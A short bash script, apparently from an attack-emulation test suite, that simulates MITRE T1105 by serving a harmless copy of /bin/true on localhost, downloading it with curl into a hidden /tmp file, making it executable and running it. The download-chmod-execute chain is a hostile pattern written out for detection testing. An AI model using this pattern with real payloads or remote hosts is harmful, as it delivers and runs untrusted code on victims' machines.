#!/usr/bin/env bash
# attack: T1105 Download a tool to /tmp with curl, chmod +x, run it
. "$(dirname "$0")/lib/common.sh"
cp /bin/true "$SW/agent"
p=$(serve "$SW")
curl -s -o /tmp/.agent$$ "http://127.0.0.1:$p/agent"
undo "rm -f /tmp/.agent$$"
chmod +x /tmp/.agent$$
/tmp/.agent$$
